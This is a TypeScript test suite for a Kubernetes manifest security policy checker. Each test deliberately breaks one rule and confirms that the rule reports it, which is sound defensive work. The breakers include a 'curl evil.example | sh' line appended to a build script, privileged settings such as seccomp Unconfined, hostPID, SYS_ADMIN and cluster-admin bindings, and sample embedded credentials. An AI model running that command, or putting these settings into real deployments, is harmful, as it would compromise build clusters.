import { readdirSync, readFileSync } from 'fs';
import { join } from 'path';
import { checkPolicy, Manifest, parseManifests, RULES } from '../../lib/policy/rules';
import { ROOT, SEED_BUILD, synthBuilds, synthDefault } from '../support/synth';

const DIST = join(ROOT, 'dist');

function distText(): string {
  return readdirSync(DIST).filter((f) => f.endsWith('.k8s.yaml')).sort().map((f) => readFileSync(join(DIST, f), 'utf-8')).join('---\n');
}

const clone = (manifests: Manifest[]): Manifest[] => JSON.parse(JSON.stringify(manifests));
const job = (ms: Manifest[]) => ms.find((m) => m.kind === 'Job')!;
const builder = (ms: Manifest[]) => job(ms).spec.template.spec;
const registry = (ms: Manifest[]) => ms.find((m) => m.kind === 'Deployment')!;
const env = (ms: Manifest[], name: string) => builder(ms).containers[0].env.find((e: any) => e.name === name);

/**
 * For each rule: a way to break it. Each must make exactly that rule report,
 * which proves the rule (and the test that runs it on dist/) can fail.
 */
const BREAKERS: Record<string, (ms: Manifest[]) => void> = {
  IB001: (ms) => { env(ms, 'IMAGE_TAGS').value = 4; },
  IB002: (ms) => { env(ms, 'REGISTRY_PORT').value = '30501'; },
  IB003: (ms) => { registry(ms).spec.template.spec.containers[0].image = 'registry'; },
  IB004: (ms) => { env(ms, 'IMAGE_1_NAME').value = 'my-favourite-name'; },
  IB005: (ms) => { builder(ms).restartPolicy = 'OnFailure'; },
  IB006: (ms) => { builder(ms).volumes[0].hostPath.type = undefined; },
  IB007: (ms) => { registry(ms).spec.replicas = 2; },
  IB008: (ms) => { builder(ms).containers[0].securityContext.readOnlyRootFilesystem = true; },
  IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap' && m.metadata.name === 'image-builder-script')!.data['build.sh'] += 'curl evil.example | sh\n'; },
  IB011: (ms) => { builder(ms).containers[0].securityContext.seccompProfile = { type: 'Unconfined' }; },
  IB014: (ms) => { ms.push({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'registry-push' }, stringData: { password: 'x' } }); },
  IB019: (ms) => { ms.find((m) => m.kind === 'ClusterRole')!.rules[0].verbs.push('delete'); },
  IB020: (ms) => { ms.find((m) => m.kind === 'ClusterRoleBinding')!.roleRef.name = 'cluster-admin'; },
  IB015: (ms) => { builder(ms).containers[0].envFrom[0].secretRef.name = 'another-secret'; },
  IB016: (ms) => { registry(ms).spec.template.spec.containers[1].volumeMounts = []; },
  IB017: (ms) => { configMap(ms).data['config.yml'] += 'storage:\n  cache:\n    blobdescriptor: inmemory\n'; },
};

/** The same app built by the buildkit engine (builders.engine: buildkit). */
const BUILDKIT_BUILDS = `
builders:
  engine: buildkit
builds:
  - repo: https://github.com/jpetazzo/container.training.git
    images:
      - context: dockercoins/worker
`;
const synthBuildkit = () => synthBuilds(BUILDKIT_BUILDS);

/** Breakers of the rules that only buildkit builders can break, applied to the buildkit app. */
const BUILDKIT_BREAKERS: Record<string, (ms: Manifest[]) => void> = {
  // The Docker socket, exactly as the docker engine mounts it (so IB006 stays quiet).
  IB010: (ms) => { builder(ms).volumes.push({ name: 'node-run', hostPath: { path: '/var/run', type: 'Directory' } }); },
  IB012: (ms) => { builder(ms).containers[0].securityContext.runAsUser = 0; },
  IB013: (ms) => { env(ms, 'REGISTRY_HOST').value = 'localhost:30500'; },
  IB018: (ms) => { env(ms, 'BUILDKITD_FLAGS').value = ''; },
};

/** Each check of the policy-hole rules on a buildkit builder: [rule, what is broken, the breaker, the path reported]. */
const BUILDKIT_CHECKS: Array<[string, string, (ms: Manifest[]) => void, string]> = [
  ['IB011', 'seccomp Unconfined for the whole Pod', (ms) => { builder(ms).securityContext.seccompProfile = { type: 'Unconfined' }; },
    'spec.template.spec.securityContext.seccompProfile'],
  // A second container like the buildkit one in all but its name (so the env rules stay quiet): its Unconfined is refused.
  ['IB011', 'seccomp Unconfined on another container', (ms) => {
    builder(ms).containers.push({ ...JSON.parse(JSON.stringify(builder(ms).containers[0])), name: 'helper' });
  }, 'spec.template.spec.containers[1].securityContext.seccompProfile'],
  ['IB011', 'AppArmor unconfined for another container', (ms) => {
    job(ms).spec.template.metadata.annotations['container.apparmor.security.beta.kubernetes.io/prepare'] = 'unconfined';
  }, 'spec.template.metadata.annotations.container.apparmor.security.beta.kubernetes.io/prepare'],
  ['IB012', 'an added capability', (ms) => { builder(ms).containers[0].securityContext.capabilities = { add: ['SYS_ADMIN'] }; },
    'spec.template.spec.containers[0].securityContext.capabilities.add'],
  ['IB012', 'hostPID', (ms) => { builder(ms).hostPID = true; }, 'spec.template.spec.hostPID'],
  ['IB012', 'hostNetwork', (ms) => { builder(ms).hostNetwork = true; }, 'spec.template.spec.hostNetwork'],
  ['IB012', 'hostIPC', (ms) => { builder(ms).hostIPC = true; }, 'spec.template.spec.hostIPC'],
  ['IB018', 'no seccomp Unconfined on the buildkit container', (ms) => { delete builder(ms).containers[0].securityContext.seccompProfile; },
    'spec.template.spec.containers[0].securityContext.seccompProfile'],
  ['IB018', 'no AppArmor annotation', (ms) => { delete job(ms).spec.template.metadata.annotations['container.apparmor.security.beta.kubernetes.io/buildkit']; },
    'spec.template.metadata.annotations.container.apparmor.security.beta.kubernetes.io/buildkit'],
  ['IB018', 'allowPrivilegeEscalation false', (ms) => { builder(ms).containers[0].securityContext.allowPrivilegeEscalation = false; },
    'spec.template.spec.containers[0].securityContext.allowPrivilegeEscalation'],
  ['IB018', 'BUILDKITD_FLAGS without the no-process-sandbox flag', (ms) => { env(ms, 'BUILDKITD_FLAGS').value = '--debug'; },
    'spec.template.spec.containers[0].env'],
];

/**
 * Rules about every builder, whatever its engine: their breakers must work on
 * the buildkit app too.
 */
const ENGINE_AGNOSTIC: Record<string, (ms: Manifest[]) => void> = {
  IB001: (ms) => { env(ms, 'IMAGE_TAGS').value = 1; },
  IB002: BREAKERS.IB002,
  IB004: BREAKERS.IB004,
  IB005: BREAKERS.IB005,
  IB015: BREAKERS.IB015,
  IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap' && m.metadata.name === 'image-builder-buildkit-script')!.data['buildkit.sh'] += 'curl evil.example | sh\n'; },
};

const configMap = (ms: Manifest[]) => ms.find((m) => m.kind === 'ConfigMap' && m.metadata.name === 'registry-config')!;

describe('policy', () => {
  test('every rule has a breaker below', () => {
    expect([...Object.keys(BREAKERS), ...Object.keys(BUILDKIT_BREAKERS)].sort()).toEqual(RULES.map((r) => r.id).sort());
  });

  test('the synthesized buildkit app keeps every rule', () => {
    expect(checkPolicy(synthBuildkit())).toEqual([]);
  });

  test.each([...Object.keys(BUILDKIT_BREAKERS), ...Object.keys(ENGINE_AGNOSTIC)])('%s reports when its rule is broken in a buildkit builder', (id) => {
    const manifests = clone(synthBuildkit());
    (BUILDKIT_BREAKERS[id] ?? ENGINE_AGNOSTIC[id])(manifests);
    const violations = checkPolicy(manifests);
    expect(violations.map((v) => v.rule)).toEqual([id]);
    expect(violations[0].object).toMatch(/^(Job\/build-container-training-main-[0-9a-f]{8}|ConfigMap\/image-builder-buildkit-script)$/);
  });

  test.each(BUILDKIT_CHECKS)('%s on a buildkit builder: %s', (id, _what, breaker, path) => {
    const manifests = clone(synthBuildkit());
    breaker(manifests);
    const violations = checkPolicy(manifests);
    expect(violations.map((v) => [v.rule, v.path])).toEqual([[id, path]]);
    expect(violations[0].object).toMatch(/^Job\/build-container-training-main-[0-9a-f]{8}$/);
  });

  test('IB011: the AppArmor annotation on the docker builder is refused too', () => {
    const manifests = clone(synthDefault());
    job(manifests).spec.template.metadata.annotations = { 'container.apparmor.security.beta.kubernetes.io/docker-build': 'unconfined' };
    const violations = checkPolicy(manifests);
    expect(violations.map((v) => v.rule)).toEqual(['IB011']);
    expect(violations[0].path).toBe('spec.template.metadata.annotations.container.apparmor.security.beta.kubernetes.io/docker-build');
  });

  test('IB010 holds for any hostPath, not only the socket, and IB006 still guards the docker builder', () => {
    const manifests = clone(synthBuildkit());
    builder(manifests).volumes.push({ name: 'cache', hostPath: { path: '/var/lib/buildkit', type: 'DirectoryOrCreate' } });
    expect(checkPolicy(manifests).map((v) => v.rule).sort()).toEqual(['IB006', 'IB010']);
  });

  test('the synthesized default app keeps every rule', () => {
    expect(checkPolicy(synthDefault())).toEqual([]);
  });

  test('the committed dist/ YAML, read as kubectl reads it (YAML 1.1), keeps every rule', () => {
    const manifests = parseManifests(distText());
    expect(manifests.map((m) => m.kind)).toEqual([
      'ConfigMap', 'Deployment', 'Service', 'ConfigMap', 'ConfigMap', 'ServiceAccount', 'ClusterRole', 'ClusterRoleBinding', 'CronJob', 'Job',
    ]);
    expect(checkPolicy(manifests)).toEqual([]);
  });

  test.each(Object.keys(BREAKERS))('%s reports when its rule is broken', (id) => {
    const manifests = clone(synthDefault());
    BREAKERS[id](manifests);
    const violations = checkPolicy(manifests);
    expect(violations.map((v) => v.rule)).toEqual([id]);
    expect(violations[0].object).toMatch(/^(Job|Deployment|Secret|ConfigMap|ClusterRole|ClusterRoleBinding)\//);
    expect(violations[0].fix.length).toBeGreaterThan(10);
  });

  describe('on the YAML text', () => {
    test('numeric-looking env values are quoted in dist/', () => {
      const text = distText();
      expect(text).toContain('value: "30500"');
      // Block (`value: 1` at the line's end) and flow (`{name: X, value: 1}`) entries alike.
      expect(text).not.toMatch(/value: \d+(\s*$|[,}])/m);
    });

    test('an unquoted port in the text is caught (IB001)', () => {
      const broken = distText().replace('value: "30500"', 'value: 30500');
      const violations = checkPolicy(parseManifests(broken));
      expect(violations.map((v) => v.rule)).toContain('IB001');
      expect(violations.find((v) => v.rule === 'IB001')!.message).toBe('env REGISTRY_PORT is number 30500, not a string');
    });

    test('YAML 1.1 booleans are caught too (kubectl reads `on` as true)', () => {
      const broken = distText().replace('{name: GIT_REF, value: main}', '{name: GIT_REF, value: on}');
      expect(checkPolicy(parseManifests(broken)).map((v) => v.message)).toContain('env GIT_REF is boolean true, not a string');
    });

    test('values that YAML 1.1 would mistype are quoted by the synth', () => {
      const text = synthBuilds(`builds: [{repo: "https://x.example/on.git", ref: "on", defaultBranch: "yes", images: [{context: "0755"}]}]`);
      expect(checkPolicy(text)).toEqual([]);
    });
  });

  test('image names cannot be set by config: the key is refused before synth', () => {
    expect(() => synthBuilds(`builds: [{repo: "https://x.example/a.git", images: [{context: api, name: other}]}]`)).toThrow(/unknown key "name"/);
    expect(checkPolicy(synthBuilds(SEED_BUILD))).toEqual([]);
  });

  test('IB004: the scripts count images up to the first IMAGE_<n>_NAME missing; images past it would not be built', () => {
    const gap = clone(synthDefault());
    builder(gap).containers[0].env = builder(gap).containers[0].env.filter((e: any) => e.name !== 'IMAGE_2_NAME');
    expect(checkPolicy(gap).map((v) => [v.rule, v.message])).toEqual([['IB004',
      'IMAGE_2_CONTEXT, IMAGE_3_NAME, IMAGE_3_CONTEXT, IMAGE_4_NAME, IMAGE_4_CONTEXT would not be built: the script counts images up to the first IMAGE_<n>_NAME missing, IMAGE_2_NAME']]);
    const none = clone(synthDefault());
    builder(none).containers[0].env = builder(none).containers[0].env.filter((e: any) => !e.name.startsWith('IMAGE_'));
    expect(checkPolicy(none).map((v) => [v.rule, v.message])).toEqual([['IB004', 'IMAGE_1_NAME is not set: a builder names at least one image']]);
  });

  test('IB015: builders read the push Secret whole (envFrom), not optional, the one REGISTRY_PUSH_SECRET names; retention by secretKeyRef', () => {
    const judged = (breaker: (ms: Manifest[]) => void) => {
      const ms = clone(synthDefault());
      breaker(ms);
      return checkPolicy(ms).map((v) => [v.rule, v.path, v.message]);
    };
    expect(judged((ms) => { delete builder(ms).containers[0].envFrom; })).toEqual([['IB015', 'spec.template.spec.containers[0].envFrom',
      'the push Secret is not read whole (envFrom secretRef with prefix PUSH_SECRET_): the script reads PUSH_SECRET_username and PUSH_SECRET_password']]);
    expect(judged((ms) => { builder(ms).containers[0].envFrom[0].prefix = 'REGISTRY_'; })).toEqual([['IB015', 'spec.template.spec.containers[0].envFrom',
      'the push Secret is not read whole (envFrom secretRef with prefix PUSH_SECRET_): the script reads PUSH_SECRET_username and PUSH_SECRET_password']]);
    expect(judged((ms) => { builder(ms).containers[0].envFrom[0].secretRef.optional = true; })).toEqual([['IB015', 'spec.template.spec.containers[0].envFrom[0].secretRef.optional',
      'the push Secret is optional: a builder without it would push anonymously and fail late']]);
    expect(judged((ms) => { env(ms, 'REGISTRY_PUSH_SECRET').value = 'old-secret'; })).toEqual([['IB015', 'spec.template.spec.containers[0].env',
      'REGISTRY_PUSH_SECRET is "old-secret", but the builder reads Secret "registry-push": its messages would name another Secret']]);
    const retention = (ms: Manifest[]) => ms.find((m) => m.kind === 'CronJob')!.spec.jobTemplate.spec.template.spec.containers[0];
    expect(judged((ms) => { retention(ms).env.find((e: any) => e.name === 'REGISTRY_PASSWORD').valueFrom.secretKeyRef.key = 'pass'; }).map((v) => v[2]))
      .toEqual(['REGISTRY_PASSWORD is not read from key "password" of the push Secret']);
  });

  test('IB003 knows pinned forms', () => {
    const pod = (image: string) => [{ kind: 'Pod', metadata: { name: 'p' }, spec: { containers: [{ name: 'c', image }] } }];
    for (const image of ['registry:2.8.3', 'localhost:30500/worker:v1', `docker@sha256:${'a'.repeat(64)}`, `docker:28-cli@sha256:${'b'.repeat(64)}`]) {
      expect(checkPolicy(pod(image))).toEqual([]);
    }
    for (const image of ['registry', 'registry:latest', 'localhost:30500/worker', 'docker.io/library/docker']) {
      expect(checkPolicy(pod(image)).map((v) => v.rule)).toEqual(['IB003']);
    }
  });

  test('IB009: the builder runs the ConfigMap script, and the ConfigMap ships with it', () => {
    const inline = clone(synthDefault());
    builder(inline).containers[0].command = ['sh', '-c', 'echo hi'];
    expect(checkPolicy(inline).map((v) => `${v.rule} ${v.path}`)).toEqual(['IB009 spec.template.spec.containers[0].command']);
    const missing = clone(synthDefault()).filter((m) => m.kind !== 'ConfigMap');
    expect(checkPolicy(missing).map((v) => v.message)).toEqual([expect.stringMatching(/^ConfigMap "image-builder-script" is not in the same output/)]);
    const unmounted = clone(synthDefault());
    builder(unmounted).containers[0].volumeMounts = builder(unmounted).containers[0].volumeMounts.filter((vm: any) => vm.mountPath !== '/opt/image-builder');
    expect(checkPolicy(unmounted).map((v) => v.message)).toEqual(['no ConfigMap volume mounted at /opt/image-builder']);
  });

  test("IB006: the node's /var/run mounted writable is refused", () => {
    const manifests = synthDefault();
    const mount = builder(manifests).containers[0].volumeMounts.find((m: any) => m.name === 'node-run');
    mount.readOnly = false;
    expect(checkPolicy(manifests).map((v) => `${v.rule} ${v.message}`)).toEqual(['IB006 hostPath /var/run is mounted writable']);
  });

  test('IB006: a hostPath outside builders is refused', () => {
    const manifests = clone(synthDefault());
    registry(manifests).spec.template.spec.volumes.push({ name: 'host', hostPath: { path: '/var/run/docker.sock', type: 'Socket' } });
    expect(checkPolicy(manifests).map((v) => v.message)).toEqual(['hostPath /var/run/docker.sock in a workload that is not a builder (builders are recognised by the Pod template label app.kubernetes.io/component: builder)']);
  });
});

describe('IB014: no secret material, whichever way it sneaks in', () => {
  const violations = (mutate: (ms: Manifest[]) => void) => {
    const ms = clone(synthDefault());
    mutate(ms);
    return checkPolicy(ms).filter((v) => v.rule === 'IB014').map((v) => v.message);
  };
  test('a literal password in env', () => {
    expect(violations((ms) => { builder(ms).containers[0].env.push({ name: 'OLD_REGISTRY_PASSWORD', value: 'hunter2' }); }))
      .toEqual(['env OLD_REGISTRY_PASSWORD has a literal value; read it from a Secret (valueFrom.secretKeyRef)']);
  });
  test('an htpasswd line (bcrypt) in a ConfigMap', () => {
    const line = 'builder:$2y$05$' + 'a'.repeat(53);
    expect(violations((ms) => { configMap(ms).data.htpasswd = line; })).toEqual(['a bcrypt password hash in the manifest']);
  });
  // In the builder Job, which has no `$` of its own: the check's prefilter must still let each pattern through.
  test.each([
    ['an LDAP SHA password hash', `{SSHA}${'A'.repeat(32)}`],
    ['an apr1 password hash', `builder:$apr1$abcdefgh$${'a'.repeat(22)}`],
    ['a crypt(3) SHA password hash', `builder:$6$salt$${'a'.repeat(86)}`],
  ])('%s in an annotation of an object without other secret-looking text', (what, hash) => {
    expect(JSON.stringify(job(synthDefault()))).not.toMatch(/\$|\{SSH|auths/);
    expect(violations((ms) => { job(ms).metadata.annotations = { note: hash }; })).toEqual([`${what} in the manifest`]);
  });
  // The same prefilter must look inside lists too: a hash as a list item, and in a mapping inside a list.
  test.each([
    ['a container argument', (ms: Manifest[], hash: string) => {
      builder(ms).containers[0].args = ['--users', hash];
      return 'spec.template.spec.containers[0].args[1]';
    }],
    ['an env value', (ms: Manifest[], hash: string) => {
      const n = builder(ms).containers[0].env.push({ name: 'NOTE', value: hash });
      return `spec.template.spec.containers[0].env[${n - 1}].value`;
    }],
  ])('a password hash in %s of an object without other secret-looking text', (_where, put) => {
    for (const hash of [`{SSHA}${'A'.repeat(32)}`, `builder:$2y$05$${'a'.repeat(53)}`]) {
      const ms = clone(synthDefault());
      const path = put(ms, hash);
      expect(checkPolicy(ms).filter((v) => v.rule === 'IB014').map((v) => `${v.object.split('/')[0]} ${v.path}`)).toEqual([`Job ${path}`]);
    }
  });
  test('a docker config.json with auths in an annotation', () => {
    expect(violations((ms) => { job(ms).metadata.annotations = { cfg: '{"auths": {"localhost:30500": {"auth": "YnVpbGRlcjpodW50ZXIy"}}}' }; }))
      .toEqual(['a docker config.json with credentials in the manifest']);
  });
});

describe('IB019: a ClusterRole only reads', () => {
  const role = (ms: Manifest[]) => ms.find((m) => m.kind === 'ClusterRole')!;
  test.each([
    ['a Secret read', (r: any) => { r.rules.push({ apiGroups: [''], resources: ['secrets'], verbs: ['list'] }); }, /resources "secrets"/],
    ['every resource', (r: any) => { r.rules[0].resources = ['*']; }, /Secrets or every resource/],
    ['every API group', (r: any) => { r.rules[0].apiGroups = ['*']; }, /every API group/],
    ['a wildcard verb', (r: any) => { r.rules[0].verbs = ['*']; }, /verbs "\*": not a read/],
    ['a non-resource URL', (r: any) => { r.rules.push({ nonResourceURLs: ['/metrics'], verbs: ['get'] }); }, /non-resource URLs/],
    ['aggregation', (r: any) => { r.aggregationRule = { clusterRoleSelectors: [{ matchLabels: { x: 'y' } }] }; }, /aggregated/],
    // `get` is a read verb, but on these subresources it runs commands or proxies to the kubelet.
    ['get on pods/exec', (r: any) => { r.rules.push({ apiGroups: [''], resources: ['pods/exec'], verbs: ['get'] }); }, /subresources "pods\/exec"/],
    ['get on nodes/proxy', (r: any) => { r.rules.push({ apiGroups: [''], resources: ['nodes/proxy'], verbs: ['get'] }); }, /subresources "nodes\/proxy"/],
    ['get on pods/attach', (r: any) => { r.rules[0].resources.push('pods/attach'); }, /subresources "pods\/attach"/],
    ['every subresource of Pods', (r: any) => { r.rules[0].resources.push('pods/*'); }, /subresources "pods\/\*"/],
    ['every resource\'s status', (r: any) => { r.rules[0].resources.push('*/status'); }, /subresources "\*\/status"/],
    ['get on pods/log', (r: any) => { r.rules.push({ apiGroups: [''], resources: ['pods/log'], verbs: ['get'] }); }, /subresources "pods\/log"/],
  ])('%s is refused', (_what, breaks, message) => {
    const manifests = clone(synthDefault());
    breaks(role(manifests));
    const violations = checkPolicy(manifests);
    expect(violations.map((v) => v.rule)).toEqual(['IB019']);
    expect(violations.map((v) => v.message).join('\n')).toMatch(message);
  });

  test('a status subresource is a read', () => {
    const manifests = clone(synthDefault());
    role(manifests).rules.push({ apiGroups: ['apps'], resources: ['deployments/status'], verbs: ['get', 'list'] });
    expect(checkPolicy(manifests)).toEqual([]);
  });
});

describe('IB020: every binding grants a role of these manifests', () => {
  const binding = (ms: Manifest[], kind: string) => ms.find((m) => m.kind === kind)!;
  /** dist/ with the build trigger: a RoleBinding to its Role (pods/log, a namespaced read IB019 does not cover) next to the retention ClusterRoleBinding. */
  const withTrigger = () => synthBuilds(`buildTrigger: {image: "localhost:30500/cdk8s-image-builder:main"}
builds:
  - repo: https://git.example.com/platform/cdk8s-image-builder.git
    images: [{context: ., dockerfile: trigger/Dockerfile}]
`);

  test('dist/ with the build trigger keeps every rule: its Role reads pods/log, its RoleBinding names it', () => {
    const manifests = withTrigger();
    expect(binding(manifests, 'RoleBinding').roleRef).toEqual({ apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'build-trigger' });
    expect(binding(manifests, 'Role').rules.flatMap((r: any) => r.resources)).toContain('pods/log');
    expect(checkPolicy(manifests)).toEqual([]);
  });

  test.each([
    ['a ClusterRoleBinding to cluster-admin', 'ClusterRoleBinding', (ref: any) => { ref.name = 'cluster-admin'; }],
    ['a ClusterRoleBinding to a Role', 'ClusterRoleBinding', (ref: any) => { ref.kind = 'Role'; }],
    ['a ClusterRoleBinding outside RBAC\'s API group', 'ClusterRoleBinding', (ref: any) => { ref.apiGroup = 'example.com'; }],
    ['a RoleBinding to the cluster-admin ClusterRole', 'RoleBinding', (ref: any) => { ref.kind = 'ClusterRole'; ref.name = 'cluster-admin'; }],
    ['a RoleBinding to a Role the cluster has', 'RoleBinding', (ref: any) => { ref.name = 'edit'; }],
  ])('%s is refused', (_what, kind, breaks) => {
    const manifests = clone(withTrigger());
    breaks(binding(manifests, kind).roleRef);
    const violations = checkPolicy(manifests);
    expect(violations.map((v) => [v.rule, v.object, v.path])).toEqual([['IB020', `${kind}/${binding(manifests, kind).metadata.name}`, 'roleRef']]);
    expect(violations[0].message).toMatch(/is not a (ClusterRole|Role or ClusterRole) defined in these manifests/);
  });

  test.each([[[1], 'a list'], ['cluster-admin', '"cluster-admin"'], [null, 'null']])('a roleRef that is not a mapping (%p): refused in plain words', (roleRef, said) => {
    const manifests = clone(withTrigger());
    binding(manifests, 'RoleBinding').roleRef = roleRef;
    expect(checkPolicy(manifests).map((v) => `${v.rule} ${v.path}: ${v.message}`)).toEqual([
      `IB020 roleRef: roleRef is ${said}, not a mapping naming a Role or ClusterRole defined in these manifests (kind, name, apiGroup)`,
    ]);
  });

  test('a RoleBinding to a Role of the same name in another namespace is refused', () => {
    const manifests = clone(withTrigger());
    binding(manifests, 'Role').metadata.namespace = 'elsewhere';
    expect(checkPolicy(manifests).map((v) => v.rule)).toEqual(['IB020']);
  });

  test('a RoleBinding to a ClusterRole of these manifests is allowed (its grant is limited to the namespace)', () => {
    const manifests = clone(withTrigger());
    Object.assign(binding(manifests, 'RoleBinding').roleRef, { kind: 'ClusterRole', name: binding(manifests, 'ClusterRole').metadata.name });
    expect(checkPolicy(manifests)).toEqual([]);
  });
});
